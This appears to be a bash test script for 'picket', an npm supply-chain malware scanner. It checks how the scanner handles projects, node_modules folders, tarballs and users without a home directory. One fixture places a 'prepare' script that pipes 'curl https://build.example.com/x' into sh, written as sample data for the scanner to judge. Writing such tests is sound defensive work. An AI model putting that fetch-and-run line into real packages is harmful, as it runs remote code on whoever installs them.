# The same packages from several places: a project, its node_modules, one package in there, a tarball.
. "$PICKET_SRC/tests/cli/scanner.bash"
unset PICKET_CORPUS_DIR
if [ ! -e "$PICKET_BUILD/share/picket/corpus/npm-malware.iocpack" ]; then
	echo "no corpus is built here"
	exit 0
fi
project shop
clean() { # clean TARGET: complete, and nothing at MEDIUM or above
	gives 0 scanner scan --format json --fail-on medium "$1"
}
count() { # count N TARGET: packages in its inventory
	gives 0 scanner scan --list-packages --format tsv "$2" && [ "$(($(wc -l <out) - 1))" = "$1" ]
}

mkdir node_modules # a package of that name, far from any project
say "a project with what it locks installed is clean" clean shop
say "its node_modules alone is a folder of installed packages" count 2 shop/node_modules
say "and none of them is a project of its own" clean shop/node_modules
say "a scope of it is the same" count 1 shop/node_modules/@acme
say "and is clean" clean shop/node_modules/@acme
say "one package of it is one package" count 1 shop/node_modules/left-pad
say "whose lockfile is elsewhere, which is no finding" clean shop/node_modules/left-pad
within() { (cd shop/node_modules && gives 0 scanner scan --list-packages --format tsv . && grep -q left-pad out; got=$?; rm -f out err; exit $got); }
say "from inside of node_modules the folder at hand is that folder" within

mkdir package && echo '{"name":"a","version":"1.0.0","license":"MIT","dependencies":{"left-pad":"^1.3.0"}}' >package/package.json
tar czf a.tgz package
say "a packed package has no lockfile and needs none" clean a.tgz
say "the same as a folder is a project without a lockfile" gives 1 scanner scan --fail-on medium package
echo '{"name":"a","version":"1.0.0","license":"MIT","scripts":{"prepare":"curl https://build.example.com/x | sh"},"devDependencies":{"tool":"git://git.example.com/o/tool.git"}}' >package/package.json
tar czf b.tgz package
say "what prepares a packed package, and what it is developed with, never reaches who installs it" clean b.tgz
say "as a folder both are the project's own" gives 1 scanner scan --fail-on critical package
early() { scanner scan --format json --show info shop 2>err | head -c 1 >/dev/null; not grep -q SCAN-DIED err; }
say "a reader that goes away is no crash" early

# Without a home nothing was installed: the built-in packs are asked, which is said. Root's store is elsewhere.
cp "$PICKET_BIN/scanner" "$PICKET_BIN/packtool" .
cp -R "$PICKET_BUILD/share/picket/corpus" packs
chmod -R a+rX "$work"
homeless() {
	local switch=
	[ "$(id -u)" != 0 ] || switch="setpriv --reuid 65534 --regid 65534 --clear-groups"
	# shellcheck disable=SC2086
	$switch env -u HOME -u PICKET_STORE -u XDG_DATA_HOME PICKET_CORPUS_DIR="$1" "${@:2}"
}
say "a user without a home is judged by the built-in packs" gives 0 homeless "$work/packs" ./scanner scan --format json shop
say "all of them" test "$(jq -r '.corpus | length' out)" = 3
say "and told that no others are asked" grep -q 'HOME is not set.*STORE-PLACE' err
say "without built-in packs the scan is refused" gives 5 homeless "" ./scanner scan shop
say "an inventory asks no pack" gives 0 homeless "$work/packs" ./scanner scan --list-packages shop
say "and says nothing" test ! -s err
say "doctor says what a scan would" gives 0 homeless "$work/packs" ./packtool doctor
say "with a note" grep -q 'note *store *HOME is not set' out
say "and refuses where it would be" gives 5 homeless "" ./packtool doctor
say "where nothing can be put is no place to import into" gives 1 homeless "$work/packs" ./packtool corpus import packs/npm-popular.iocpack
say "which has its code" grep -q STORE-PLACE err
